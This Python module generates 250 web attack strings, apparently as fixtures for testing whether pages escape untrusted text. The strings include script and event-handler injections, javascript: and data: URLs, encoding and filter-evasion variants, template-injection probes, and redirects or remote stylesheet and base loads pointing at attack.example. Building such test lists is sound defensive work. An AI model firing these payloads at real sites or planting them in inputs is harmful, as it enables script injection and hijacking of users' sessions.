"""Attacks on pages: what each context of a page could take for markup, script or style."""

from __future__ import annotations

from collections.abc import Iterator

_RUN = "window.hit=1"
# How a text could leave the place where it is shown.
_LEAVING = (
    "", '">', "'>", "</p>", "</a>", "</title>", "</script>", "</style>", "</textarea>", "-->",
    "]]>", "&quot;>", "\\\">", "</svg>", "</bdi></bdi>",
)  # fmt: skip
# What it could do outside.
_DOING = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://attack.example/'>",
    "<link rel=stylesheet href=https://attack.example/a.css>",
    "<base href=https://attack.example/>",
    "<style>@import 'https://attack.example/a.css';</style>",
)
# Texts that are attacks as they are: in attributes, addresses, templates, other ways of writing.
_WHOLE = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f" javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", f"vbscript:{_RUN}", "//attack.example/x",
    "https://attack.example/\" onmouseover=\"window.hit=1", f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}', f"` onmouseover={_RUN} `", "{{7*7}}{% raw %}${7*7}#{7*7}",
    "{{ self.__init__.__globals__ }}", "\u202egpj.exe", "\x00<script\x00>window.hit=1</script>",
    "＜script＞window.hit=1＜/script＞", "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "\ud83d<script>window.hit=1</script>", "<!--#exec cmd=x-->", "<?php window.hit=1 ?>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}",
    f"\\u003cscript\\u003e{_RUN}",
)  # fmt: skip


def attacks() -> Iterator[str]:
    """Yield every attack: 250 of them."""
    yield from _WHOLE
    for leaving in _LEAVING:
        for doing in _DOING:
            yield leaving + doing
